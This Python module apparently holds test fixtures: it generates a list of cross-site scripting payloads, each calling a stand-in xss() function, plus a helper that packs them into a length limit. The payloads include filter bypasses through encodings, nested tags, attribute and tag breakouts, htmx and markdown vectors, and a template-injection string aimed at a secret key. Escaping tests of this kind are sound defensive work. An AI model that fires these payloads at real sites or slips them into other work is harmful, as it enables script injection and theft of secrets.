"""Texts that become scripts where somebody forgets to escape them; each calls ``xss()``."""

_CALL = "xss()"
_EVENTS = (
    "onload onerror onfocus onmouseover onclick ontoggle onstart onpointerenter onanimationend"
)
_MEDIA = "img image video audio iframe embed object input body svg math marquee details select"

PAYLOADS = [
    *(f"<{tag} src=x {event}={_CALL}>" for tag in _MEDIA.split() for event in _EVENTS.split()[:4]),
    *(f'" {event}={_CALL} autofocus x="' for event in _EVENTS.split()),
    *(f"' {event}={_CALL} autofocus x='" for event in _EVENTS.split()),
    *(f"<xss {event}={_CALL} tabindex=1 autofocus>" for event in _EVENTS.split()),
    f"<script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<script/x>{_CALL}</script/x>",
    f"<script\n>{_CALL}</script\n>",
    f"<<script>{_CALL}//<</script>",
    "<script src=data:text/javascript,xss()></script>",
    "<script src=//127.0.0.1:9/x.js></script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"</noscript><script>{_CALL}</script>",
    f"</template><script>{_CALL}</script>",
    f"</option></select><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f"<!--><script>{_CALL}</script>",
    f"<![CDATA[<script>{_CALL}</script>]]>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><a xlink:href=javascript:{_CALL}><text>x</text></a></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><set attributeName=onload to={_CALL}>",
    f"<math><mtext><style><img src=x onerror={_CALL}></style></mtext></math>",
    f"<a href=javascript:{_CALL}>x</a>",
    f'<a href="java\tscript:{_CALL}">x</a>',
    f'<a href="&#106;avascript:{_CALL}">x</a>',
    f"<form action=javascript:{_CALL}><button>x</button></form>",
    f"<button formaction=javascript:{_CALL}>x</button>",
    f'<iframe srcdoc="<script>parent.{_CALL}</script>"></iframe>',
    f"<iframe src=javascript:parent.{_CALL}></iframe>",
    "<object data=data:text/html,<script>parent.xss()</script>></object>",
    "<base href=//127.0.0.1:9/>",
    "<meta http-equiv=refresh content=0;url=javascript:xss()>",
    "<link rel=stylesheet href=//127.0.0.1:9/x.css>",
    "<style>@import '//127.0.0.1:9/x.css';*{background:url(//127.0.0.1:9/x)}</style>",
    f"javascript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f'";{_CALL};//',
    f"';{_CALL};//",
    f'\\";{_CALL};//',
    f"`${{{_CALL}}}`",
    f"{{{{{_CALL}}}}}",
    f"${{{_CALL}}}",
    "{{ settings.SECRET_KEY }}{% debug %}{% load static %}",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_CALL}\\x3c/script\\x3e",
    f"＜script＞{_CALL}＜/script＞",
    f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
    f"<img src=x hx-on:error={_CALL}>",
    f"<xss hx-get=/ hx-trigger=load hx-vals='js:{{a:{_CALL}}}'>",
    f"<xss data-hx-on::load={_CALL}>",
    f"<img src=x onerror\x0c=\x0c{_CALL}>",
    f"<img/src=x/onerror={_CALL}/",
    f"<img src=`x` onerror=`{_CALL}`>",
    f"<input type=image src=x onerror={_CALL}>",
    f"[x](javascript:{_CALL})",
    f'![x](x"onerror="{_CALL})',
    f"<javascript:{_CALL}>",
    f"<mark>{_CALL}</mark><b onclick={_CALL}>",
]
ALL = " ".join(PAYLOADS)


def some(turn: int, most: int) -> str:
    """Payloads in turn, as many as fit into so many characters."""
    text = ""
    for place in range(len(PAYLOADS)):
        one = PAYLOADS[(turn + place) % len(PAYLOADS)]
        if len(text) + len(one) + 1 <= most:
            text = f"{text} {one}" if text else one
    return text or "<xss>"[:most]
